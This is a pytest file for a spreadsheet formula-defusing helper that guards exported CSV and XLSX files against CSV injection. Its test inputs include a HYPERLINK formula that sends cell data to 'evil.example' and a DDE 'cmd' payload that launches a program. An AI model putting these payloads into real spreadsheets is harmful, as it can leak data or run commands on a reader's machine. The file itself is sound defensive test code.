"""The one rule every CSV and XLSX that gridbot writes follows: text a spreadsheet would run as
a formula is written as text (OWASP, CSV injection)."""

from __future__ import annotations

import pytest

from bot.spreadsheets import defuse_formula


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?d="&E2,"点击")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert defuse_formula(text) == "'" + text


@pytest.mark.parametrize("number", ["-3.5", "-7", "+86", "42", "0.5", "-"])
def test_plain_numbers_and_a_lone_dash_stay_as_they_are(number):
    assert defuse_formula(number) == number


@pytest.mark.parametrize(
    "text", ["清泉街道东关路12号", "a=b", "张建明", "'=already defused", "100%", ""]
)
def test_ordinary_text_stays_as_it_is(text):
    assert defuse_formula(text) == text


@pytest.mark.parametrize("value", [None, -3, 2.5, True])
def test_values_that_are_not_text_pass_through(value):
    assert defuse_formula(value) is value
